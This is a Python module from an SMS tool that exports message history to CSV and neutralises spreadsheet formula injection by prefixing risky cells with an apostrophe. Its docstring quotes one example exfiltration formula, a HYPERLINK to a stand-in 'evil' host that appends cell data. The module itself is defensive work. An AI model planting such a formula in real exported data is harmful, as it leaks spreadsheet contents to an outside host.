"""CSV export of messages, safe to open in a spreadsheet.

Formula injection: a cell such as ``=HYPERLINK("http://evil/?"&A1)`` or ``@SUM(...)`` in an SMS
body runs when the file is opened in Excel/LibreOffice/Sheets. Any text cell whose first
character (after leading spaces, which spreadsheets skip) is one of ``= + - @ TAB CR`` is
written with a leading ``'``, which spreadsheets read as "this is text" (OWASP advice).

The one exception, by choice: a cell that is exactly an E.164 number (``+`` then 8-15 digits)
is written as-is. It cannot hold a formula (no operators, no function names, no references),
so prefixing it would only make every phone number column unreadable and break re-import. The
worst a spreadsheet does with it is show it as a number without the ``+``.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from datetime import datetime
from decimal import Decimal
from pathlib import Path
from typing import Protocol, TextIO

from smstui.core.privacy import open_private
from smstui.core.when import iso_utc


class MessageLike(Protocol):
    """What an export row needs: ``HistoryMessage`` and the store's rows both fit."""

    @property
    def message_id(self) -> str: ...
    @property
    def direction(self) -> str: ...
    @property
    def date(self) -> datetime | None: ...
    @property
    def to(self) -> str: ...
    @property
    def sender(self) -> str: ...
    @property
    def status(self) -> str: ...
    @property
    def parts(self) -> int: ...
    @property
    def price(self) -> Decimal | None: ...
    @property
    def body(self) -> str: ...
    @property
    def sent_by(self) -> str | None: ...


_DANGEROUS_FIRST = frozenset("=+-@\t\r")
_E164 = re.compile(r"\+[1-9][0-9]{7,14}")

HISTORY_COLUMNS = (
    "message_id",
    "direction",
    "date",
    "to",
    "from",
    "status",
    "parts",
    "price",
    "body",
    # team mode: the operator who sent it (empty for replies and for what no operator here
    # sent); last, so that a sheet or script reading the earlier columns by place still works
    "sent_by",
)


def safe_cell(value: object) -> str:
    """The text to write for ``value``; text that a spreadsheet would evaluate gets a ``'``."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | Decimal | float):
        return str(value)  # our own numbers (parts, price) are data, never formulas
    if isinstance(value, datetime):
        return iso_utc(value)
    text = str(value)
    if _E164.fullmatch(text):
        return text
    stripped = text.lstrip(" ")
    if stripped and stripped[0] in _DANGEROUS_FIRST:
        return "'" + text
    return text


def write_csv(out: TextIO, header: Sequence[str], rows: Iterable[Sequence[object]]) -> int:
    """Write a header row and ``rows`` (every cell through ``safe_cell``); return the row count."""
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([safe_cell(h) for h in header])
    count = 0
    for row in rows:
        writer.writerow([safe_cell(c) for c in row])
        count += 1
    return count


def history_row(m: MessageLike) -> list[object]:
    return [
        m.message_id,
        m.direction,
        m.date,
        m.to,
        m.sender,
        m.status,
        m.parts,
        m.price,
        m.body,
        m.sent_by,
    ]


def export_history(path: Path, messages: Iterable[MessageLike]) -> int:
    """Write ``messages`` to ``path`` as CSV (UTF-8 with BOM so Excel reads accents right)."""
    tmp = path.with_name(path.name + ".part")
    # 0600: an export holds customers' numbers and messages (shared servers)
    with open_private(tmp, "w", encoding="utf-8-sig", newline="") as out:
        count = write_csv(out, HISTORY_COLUMNS, (history_row(m) for m in messages))
    tmp.replace(path)  # never leave a half-written export under the real name
    return count


def history_csv_text(messages: Iterable[MessageLike]) -> str:
    buf = io.StringIO()
    write_csv(buf, HISTORY_COLUMNS, (history_row(m) for m in messages))
    return buf.getvalue()
